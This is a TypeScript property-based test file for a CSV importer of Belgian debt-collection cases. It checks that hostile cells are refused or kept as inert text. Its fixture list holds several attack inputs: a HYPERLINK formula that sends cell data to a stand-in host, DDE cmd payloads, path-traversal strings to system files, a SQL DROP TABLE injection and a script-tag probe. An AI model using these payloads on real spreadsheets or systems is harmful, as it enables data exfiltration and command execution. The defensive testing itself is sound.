import { fc, test } from "@fast-check/vitest";
import { describe, expect } from "vitest";
import type { CaseRowRecord, ImportRow } from "../../src/index.js";
import { ROW_ISSUE_CODES, readImportRows } from "../../src/index.js";
import {
  BELGIAN_HEADER,
  belgianCasesProfile,
  belgianRow,
  collect,
  encodeCsv,
  recordOf,
} from "../support/fixtures.js";

const profile = belgianCasesProfile({ encoding: "utf-8" });
const read = (rows: readonly (readonly string[])[], extra: Record<string, unknown> = {}) =>
  collect(readImportRows({ ...profile, ...extra }, encodeCsv([[...BELGIAN_HEADER], ...rows])));

const hostile = fc.oneof(
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\Windows\\win.ini",
    "a\u0000b",
    "\u0007bell",
    "\ud800 lone surrogate",
    '"; DROP TABLE cases; --',
    "<script>alert(1)</script>",
    "__proto__",
  ),
  fc.string({ maxLength: 40 }),
  fc.string({
    unit: fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "\t",
      "\r",
      "\n",
      '"',
      ";",
      "\u0000",
      "a",
      "é",
      ".",
      "/",
    ),
    maxLength: 30,
  }),
);

const fields = [
  "Dossier",
  "Klantnummer",
  "Naam",
  "Factuur",
  "Openstaand",
  "Vervaldag",
  "Mededeling",
  "E-mail",
  "Ondernemingsnummer",
] as const;

describe("hostile cells", () => {
  test.prop([hostile, fc.constantFrom(...fields), fc.constantFrom("error", "warning")])(
    "a hostile cell never escapes as anything but a row issue or the same text, and the rows after it read normally",
    async (cell, field, hostileText) => {
      const rows = await read([belgianRow({ [field]: cell }), belgianRow({ Dossier: "after" })], {
        hostileText,
      });
      expect(rows.length).toBe(2);
      const [first, second] = rows as [ImportRow, ImportRow];
      for (const issue of first.issues) expect(ROW_ISSUE_CODES).toContain(issue.code);
      // By default a hostile text cell is refused: no issue is a mere warning.
      if (hostileText === "error") {
        expect(first.issues.every((issue) => issue.severity === "error")).toBe(true);
      }
      if (first.record !== null) {
        const record = first.record as CaseRowRecord;
        const values = [
          record.groupKey,
          record.debtor.id,
          record.debtor.name,
          record.claim.invoiceNumber,
          record.paymentReference,
        ];
        // A text field keeps the text (trimmed, white space collapsed in names); nothing is evaluated.
        if (field === "Naam") expect(values).toContain(cell.trim().replace(/\s+/g, " "));
        if (field === "Dossier" || field === "Klantnummer" || field === "Factuur")
          expect(values).toContain(cell.trim().replace(/\r\n?/g, "\n"));
        expect(first.issues.every((issue) => issue.severity === "warning")).toBe(true);
      } else {
        expect(first.issues.some((issue) => issue.severity === "error")).toBe(true);
      }
      expect(second.record).not.toBeNull();
      expect((second.record as CaseRowRecord).groupKey).toBe("after");
    },
  );

  test("a formula is a row error naming the cell, and the row's record is null", async () => {
    const rows = await read([belgianRow({ Naam: '=HYPERLINK("http://x","y")' })]);
    expect(rows[0]?.record).toBeNull();
    expect(rows[0]?.issues.map((issue) => [issue.code, issue.severity, issue.column])).toEqual([
      ["formula", "error", "Naam"],
    ]);
    expect(rows[0]?.issues[0]?.message.en).toBe(
      'Row 2, column "Naam": "=HYPERLINK("http://x","y")" starts like a spreadsheet formula (never evaluated); expected: plain text.',
    );
  });

  test("a path is a row error naming the cell", async () => {
    const rows = await read([belgianRow({ Factuur: "../../etc/passwd" })]);
    expect(rows[0]?.record).toBeNull();
    expect(rows[0]?.issues.map((issue) => [issue.code, issue.severity, issue.column])).toEqual([
      ["path-like", "error", "Factuur"],
    ]);
  });

  test("with hostileText warning, a formula or a path is kept as the text it is with a warning, never evaluated", async () => {
    const rows = await read(
      [
        belgianRow({ Naam: '=HYPERLINK("http://x","y")' }),
        belgianRow({ Factuur: "../../etc/passwd" }),
      ],
      { hostileText: "warning" },
    );
    expect(recordOf<CaseRowRecord>(rows, 0).debtor.name).toBe('=HYPERLINK("http://x","y")');
    expect(rows[0]?.issues.map((issue) => [issue.code, issue.severity, issue.column])).toEqual([
      ["formula", "warning", "Naam"],
    ]);
    expect(recordOf<CaseRowRecord>(rows, 1).claim.invoiceNumber).toBe("../../etc/passwd");
    expect(rows[1]?.issues.map((issue) => [issue.code, issue.severity])).toEqual([
      ["path-like", "warning"],
    ]);
  });

  test("a NUL byte or another control character is a row error naming the cell", async () => {
    const rows = await read([belgianRow({ Naam: "Peeters\u0000BV" })]);
    expect(rows[0]?.record).toBeNull();
    expect(rows[0]?.issues[0]).toMatchObject({
      code: "control-character",
      column: "Naam",
      value: "Peeters\\u0000BV",
    });
  });

  test("a 10 MB cell is a row error at the cell and record limits, read in bounded memory, and the next row reads", async () => {
    const huge = "x".repeat(10 * 1024 * 1024);
    const rows = await read([belgianRow({ Naam: huge }), belgianRow({ Dossier: "next" })]);
    expect(rows[0]?.record).toBeNull();
    expect(rows[0]?.issues.map((issue) => issue.code)).toEqual(["record-too-long"]);
    expect(rows[0]?.raw.join("").length).toBeLessThan(200_000);
    expect(rows[0]?.issues[0]?.message.en).toContain("at most 100000 characters");
    expect(recordOf<CaseRowRecord>(rows, 1).groupKey).toBe("next");
  });

  test("a cell past the cell limit within the record limit is cut and reported with its column", async () => {
    const rows = await read([belgianRow({ Naam: "y".repeat(20_000) })]);
    expect(rows[0]?.issues.map((issue) => [issue.code, issue.column])).toContainEqual([
      "cell-too-long",
      "Naam",
    ]);
    expect(rows[0]?.record).toBeNull();
  });

  test("a quote never closed costs one row, reported, not the rest of the file", async () => {
    const text = `${BELGIAN_HEADER.join(";")}\n${belgianRow({ Naam: "x" }).join(";").replace(";x;", ';"x;')}\n${Array.from({ length: 3000 }, (_, i) => belgianRow({ Dossier: `D${i}` }).join(";")).join("\n")}\n`;
    const rows = await collect(readImportRows(profile, new TextEncoder().encode(text)));
    expect(rows[0]?.issues[0]?.code).toBe("record-too-long");
    expect(rows[0]?.issues[0]?.message.en).toContain("a quote was probably never closed");
    expect(rows.at(-1)?.record).not.toBeNull();
    expect(recordOf<CaseRowRecord>(rows, rows.length - 1).groupKey).toBe("D2999");
  });

  test("Excel-mangled values are recognised: scientific account numbers and references, serials where a written date is expected", async () => {
    const rows = await read([
      belgianRow({ Factuur: "1,23E+11" }),
      belgianRow({ Mededeling: "9,01E+11" }),
      belgianRow({ Vervaldag: "46057" }),
    ]);
    expect(rows.map((row) => row.issues.map((issue) => `${issue.code}@${issue.column}`))).toEqual([
      ["excel-scientific@Factuur"],
      ["excel-scientific@Mededeling"],
      ["excel-serial-date@Vervaldag"],
    ]);
    expect(rows[0]?.issues[0]?.message.nl).toContain("wetenschappelijke notatie");
  });

  test("identifiers are checked with the core's validators", async () => {
    const rows = await read([
      belgianRow({ Ondernemingsnummer: "0403.170.702" }),
      belgianRow({ Mededeling: "+++090/9337/55494+++" }),
      belgianRow({ "E-mail": "not-an-address" }),
      belgianRow({ Ondernemingsnummer: "403170701" }),
      belgianRow({ Mededeling: "Factuur F2026-17" }),
    ]);
    expect(rows.map((row) => row.issues.map((issue) => issue.code))).toEqual([
      ["invalid-enterprise-number"],
      ["invalid-ogm"],
      ["invalid-email"],
      [],
      [],
    ]);
    expect(recordOf<CaseRowRecord>(rows, 3).debtor.enterpriseNumber).toBe("0403170701");
    expect(recordOf<CaseRowRecord>(rows, 4).paymentReference).toBe("Factuur F2026-17");
    const unchecked = await read([belgianRow({ Mededeling: "+++090/9337/55494+++" })], {
      validate: { ogm: false },
    });
    expect(recordOf<CaseRowRecord>(unchecked, 0).paymentReference).toBe("090933755494");
  });
});
